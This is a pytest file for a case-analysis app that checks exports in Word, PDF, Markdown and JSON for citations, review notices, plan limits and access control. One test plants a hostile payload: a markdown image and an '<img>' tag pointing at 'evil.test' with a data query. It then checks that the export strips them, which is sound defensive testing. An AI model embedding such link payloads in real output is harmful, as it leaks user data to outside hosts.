"""A finished analysis is taken away as a file that holds every point and source, and leads nowhere."""

from io import BytesIO
from pathlib import Path

import docx
import pypdfium2
import pytest

from tenant_app.cases.analyses.making import Making
from tenant_app.settings import Settings
from tests.tenant_app.cases.firm import Caller
from tests.tenant_app.environment import environment

FACT = "Le bail a été signé le 1er juillet 2022 pour un loyer mensuel de 850 euros."
REVIEW = "À faire relire par un professionnel avant tout usage."


def export(caller: Caller, case_id: int, kind: str) -> bytes:
    analysis = caller.make(f"/api/cases/{case_id}/analyses", {})
    answer = caller.call("GET", f"/api/cases/{case_id}/analyses/{analysis['id']}/export?format={kind}")
    assert answer.status_code == 200, answer.get_data(as_text=True)
    assert answer.headers["Content-Disposition"].startswith("attachment; filename=")
    return answer.get_data()


def test_as_a_word_document(anna: Caller, lease: int) -> None:
    document = docx.Document(BytesIO(export(anna, lease, "docx")))
    lines = [paragraph.text for paragraph in document.paragraphs]

    assert lines[0] == "Analyse du dossier « Congé Martin »"
    assert f"•\t{FACT} [1]" in lines
    assert REVIEW in lines
    assert f"« {FACT} »" in lines
    assert "[1] conge.md" in lines


def test_as_a_pdf(anna: Caller, lease: int) -> None:
    document = pypdfium2.PdfDocument(export(anna, lease, "pdf"))
    pages = [document[number] for number in range(len(document))]
    texts = [page.get_textpage() for page in pages]
    text = " ".join(" ".join(page.get_text_bounded() for page in texts).split())
    for opened in (*texts, *pages, document):
        opened.close()

    for expected in (
        "Analyse du dossier « Congé Martin »",
        FACT,
        "Textes applicables",
        REVIEW,
        "[1] conge.md",
    ):
        assert expected in text


def test_as_markdown_and_json(anna: Caller, lease: int) -> None:
    text = export(anna, lease, "markdown").decode()

    assert text.startswith("# Analyse du dossier « Congé Martin »\n")
    assert f"- {FACT} [1]" in text
    assert f"> {FACT}\n> — [1] conge.md" in text
    assert b'"needs_review": true' in export(anna, lease, "json")


def test_a_document_that_hides_addresses_does_not_get_them_out(anna: Caller, lease: int) -> None:
    hostile = "Le client a signé le 2 mai 2025 ![x](https://evil.test/?d=1) <img src=//evil.test> l'accord."
    anna.upload(hostile.encode(), "piege.md", lease)

    assert "evil.test" not in export(anna, lease, "markdown").decode()


def test_what_is_not_finished_is_not_taken_away(anna: Caller, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(Making, "make", fail)
    case_id = anna.open_case()
    anna.call("POST", f"/api/cases/{case_id}/analyses")

    path = f"/api/cases/{case_id}/analyses/1/export"
    assert anna.code("GET", path) == "analysis-not-done"
    assert anna.status("GET", f"{path}?format=odt") == 400


class TestWithoutAdvancedFeatures:
    """A plan without Word and PDF."""

    @pytest.fixture
    def settings(self, data_dir: Path) -> Settings:
        """Return the settings of a starter tenant."""
        return Settings.model_validate(environment(data_dir, advanced_features="false"))

    def test_word_and_pdf_belong_to_the_larger_plans(self, anna: Caller) -> None:
        case_id = anna.open_case()
        asked = anna.make(f"/api/cases/{case_id}/analyses", {})
        path = f"/api/cases/{case_id}/analyses/{asked['id']}/export"

        for kind in ("docx", "pdf"):
            refused = anna.call("GET", f"{path}?format={kind}")
            assert (refused.status_code, refused.get_json()["code"]) == (403, "feature-not-included")
        for kind in ("markdown", "json"):
            assert anna.status("GET", f"{path}?format={kind}") == 200


def test_nobody_outside_the_case_takes_its_analysis_away(anna: Caller, boris: Caller) -> None:
    case_id = anna.open_case()
    asked = anna.make(f"/api/cases/{case_id}/analyses", {})

    assert boris.status("GET", f"/api/cases/{case_id}/analyses/{asked['id']}/export") == 404
